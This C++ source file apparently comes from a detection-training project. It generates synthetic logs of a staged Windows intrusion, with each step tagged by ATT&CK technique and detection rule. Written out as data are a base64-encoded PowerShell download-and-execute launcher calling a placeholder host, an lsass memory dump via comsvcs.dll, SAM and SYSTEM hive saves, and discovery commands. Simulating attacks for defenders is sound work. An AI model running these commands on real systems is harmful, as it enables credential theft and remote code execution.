#include <array>

#include <fmt/format.h>

#include "demo/intrusion_stage.h"
#include "demo/programs.h"
#include "demo/rule_ids.h"

namespace hinomi::demo {
namespace {

// IEX (New-Object Net.WebClient).DownloadString('http://files.kaizen-portal.example/a'), UTF-16LE in base64
constexpr std::string_view kLauncher =
    "powershell.exe -nop -w hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    "LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZgBpAGwAZQBzAC4AawBhAGkAegBlAG4ALQBwAG8A"
    "cgB0AGEAbAAu"
    "AGUAeABhAG0AcABsAGUALwBhACcAKQA=";
constexpr std::string_view kShellLine = R"("C:\Windows\System32\cmd.exe")";

void add_command(Stage& stage, TimeNs time, std::string_view image, std::string_view line) {
  stage.scene.logs.windows.process(stage.host(kPatientZero), time,
                                   {image, line, programs::kCmd, kShellLine, kVictim});
}

void add_mail(Stage& stage) {
  const TimeNs time = stage.day().at(9, 12, 8);
  const Host& computer = stage.host(kPatientZero);
  const std::string path = fmt::format(
      R"(C:\Users\{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2ZQ1AB\見積依頼_{}.iso)",
      kVictim, stage.day().label);
  stage.scene.logs.windows.file_created(computer, time, programs::kOutlook, path, kVictim);
  stage.steps.push_back({time, time, std::string(kPatientZero), LogFile::workstations, "T1566.001",
                         "A mail to the sales department carries a disk image; it is opened.",
                         "営業部宛てのメールにディスクイメージが添付され、開かれる。",
                         rule_ids::kDiskImageFromMail});
}

void add_launcher(Stage& stage) {
  WindowsLog& log = stage.scene.logs.windows;
  const Host& computer = stage.host(kPatientZero);
  const Site& server = site("files.kaizen-portal.example");
  const TimeNs time = stage.day().at(9, 13, 41);
  log.process(computer, time,
              {programs::kPowershell, kLauncher, programs::kExplorer, R"(C:\Windows\Explorer.EXE)", kVictim});
  stage.steps.push_back({time, time, std::string(kPatientZero), LogFile::workstations, "T1059.001",
                         "The shortcut in the image starts a hidden, encoded PowerShell.",
                         "イメージ内のショートカットが、非表示・エンコード済みの PowerShell を起動する。",
                         rule_ids::kPowershellEncoded});
  const TimeNs script = later(time, milliseconds{2100});
  log.script_block(computer, script,
                   "IEX (New-Object Net.WebClient).DownloadString('http://files.kaizen-portal.example/a')",
                   "");
  stage.scene.logs.dns.query(later(script, milliseconds{30}),
                             {computer.address, server.host, server.domain, "A", server.address});
  log.name_query(computer, later(script, milliseconds{45}), programs::kPowershell, kVictim, server.host,
                 server.address);
  stage.scene.logs.proxy.request(
      later(script, milliseconds{210}),
      {computer.address, kVictim, "桜井 花", "GET", "http", server.host, server.address, server.path,
       "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4291", 200, 0, 48'311});
  stage.steps.push_back({script, script, std::string(kPatientZero), LogFile::workstations, "T1105",
                         "The script fetches its next part and runs it from memory.",
                         "スクリプトが次の段階を取得し、メモリー上で実行する。",
                         rule_ids::kScriptDownloadAndRun});
}

void add_implant(Stage& stage) {
  const TimeNs time = stage.day().at(9, 15, 2);
  const std::string path = fmt::format(R"(C:\Users\{}\AppData\Roaming\Insatsu\prnhelp.dll)", kVictim);
  stage.scene.logs.windows.file_created(stage.host(kPatientZero), later(time, seconds{-4}),
                                        programs::kPowershell, path, kVictim);
  stage.scene.logs.windows.process(stage.host(kPatientZero), time,
                                   {programs::kRundll32, fmt::format("rundll32.exe {},Start", path),
                                    programs::kPowershell, kLauncher, kVictim});
  stage.steps.push_back({time, time, std::string(kPatientZero), LogFile::workstations, "T1218.011",
                         "rundll32 loads the implant out of the user's profile.",
                         "rundll32 がユーザープロファイル内の不正な DLL を読み込む。",
                         rule_ids::kRundll32UserFolder});
}

void add_discovery(Stage& stage) {
  const TimeNs time = stage.day().at(9, 34, 12);
  stage.scene.logs.windows.process(
      stage.host(kPatientZero), later(time, seconds{-3}),
      {programs::kCmd, kShellLine, programs::kRundll32, "rundll32.exe", kVictim});
  add_command(stage, time, programs::kWhoami, "whoami  /all");
  add_command(stage, later(time, seconds{22}), programs::kSysteminfo, "systeminfo");
  add_command(stage, later(time, seconds{51}), programs::kNltest, "nltest  /domain_trusts /all_trusts");
  add_command(stage, later(time, seconds{80}), programs::kNltest, "nltest  /dclist:SORAMINO");
  add_command(stage, later(time, seconds{118}), programs::kNet, R"(net  group "Domain Admins" /domain)");
  const TimeNs end = later(time, seconds{118} + milliseconds{40});
  stage.scene.logs.windows.process(
      stage.host(kPatientZero), end,
      {programs::kNet1, R"(C:\Windows\system32\net1  group "Domain Admins" /domain)", programs::kNet,
       R"(net  group "Domain Admins" /domain)", kVictim});
  stage.steps.push_back({time, end, std::string(kPatientZero), LogFile::workstations, "T1087.002",
                         "Within two minutes the intruder asks who, where and which domain this is.",
                         "侵入者が 2 分間で、ユーザー・端末・ドメインの情報を調べる。",
                         rule_ids::kDiscoveryBurst});
}

void add_passwords(Stage& stage) {
  WindowsLog& log = stage.scene.logs.windows;
  const TimeNs dump = stage.day().at(10, 4, 27);
  // The victim is a local administrator because of an old drawing program; the help desk had logged on at
  // 08:52.
  add_command(stage, dump, programs::kRundll32,
              R"(rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump 708 C:\Windows\Tasks\d.bin full)");
  log.write(stage.host(kPatientZero), later(dump, milliseconds{240}), sysmon_event(10),
            {{"SourceImage", programs::kRundll32},
             {"TargetImage", R"(C:\Windows\system32\lsass.exe)"},
             {"GrantedAccess", "0x1fffff"},
             {"CallTrace", R"(C:\Windows\SYSTEM32\ntdll.dll+9d4e4|C:\Windows\System32\dbgcore.dll+6ccc)"},
             {"SourceUser", qualified(kVictim)}});
  stage.steps.push_back({dump, dump, std::string(kPatientZero), LogFile::workstations, "T1003.001",
                         "The memory of lsass is written to a file through comsvcs.dll.",
                         "comsvcs.dll を使って lsass のメモリーをファイルに書き出す。",
                         rule_ids::kLsassDump});
  const TimeNs save = stage.day().at(10, 9, 3);
  add_command(stage, save, programs::kReg, R"(reg  save HKLM\SAM C:\Windows\Tasks\s.bin /y)");
  add_command(stage, later(save, seconds{9}), programs::kReg,
              R"(reg  save HKLM\SYSTEM C:\Windows\Tasks\y.bin /y)");
  stage.steps.push_back({save, later(save, seconds{9}), std::string(kPatientZero), LogFile::workstations,
                         "T1003.002", "The registry hives with the local password hashes are saved.",
                         "ローカルパスワードのハッシュを含むレジストリハイブを保存する。",
                         rule_ids::kHiveSaved});
}

// With the hash of the help desk's account: one try after the other, who lets it in?
void add_spreading(Stage& stage) {
  constexpr auto kTargets = std::to_array<std::string_view>({"SRM-FS01", "SRM-FS02", "HQ-PC-003", "HQ-PC-021",
                                                             "SRM-AP01", "SRM-AP03", "KT-PC-008", "SRM-DB01",
                                                             "SRM-PRT01", "SRM-WEB01", "MN-PC-004"});
  const Host& from = stage.host(kPatientZero);
  const TimeNs begin = stage.day().at(10, 41, 5);
  TimeNs time = begin;
  TimeNs end = begin;
  for (const std::string_view target : kTargets) {
    stage.scene.logs.windows.logon(stage.host(target), time,
                                   {kHelpDeskAdmin, "3", from.address, from.name, "NTLM"});
    stage.scene.logs.windows.privileged_logon(stage.host(target), later(time, milliseconds{3}),
                                              kHelpDeskAdmin);
    end = time;
    time = later(time, random_span(stage.random, seconds{18}, seconds{44}));
  }
  stage.steps.push_back({begin, end, std::string(kPatientZero), LogFile::servers, "T1550.002",
                         "The help desk's account logs on to eleven computers with NTLM.",
                         "ヘルプデスクのアカウントが 11 台に NTLM でログオンする。",
                         rule_ids::kOneAccountManyHosts});
}

}  // namespace

void add_workstation_stage(Stage stage) {
  add_mail(stage);
  add_launcher(stage);
  add_implant(stage);
  add_discovery(stage);
  add_passwords(stage);
  add_spreading(stage);
}

}  // namespace hinomi::demo
